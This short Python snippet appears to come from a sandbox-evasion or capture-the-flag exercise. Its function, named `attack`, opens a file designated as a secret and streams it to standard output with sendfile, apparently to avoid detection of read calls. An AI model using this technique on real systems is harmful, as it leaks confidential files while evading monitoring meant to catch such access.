"""Sends the file to the printing pipe by `sendfile`, without reading it."""

import os


def attack(A):
    descriptor = os.open(TARGET["secret"], os.O_RDONLY)
    os.sendfile(1, descriptor, 0, 100)
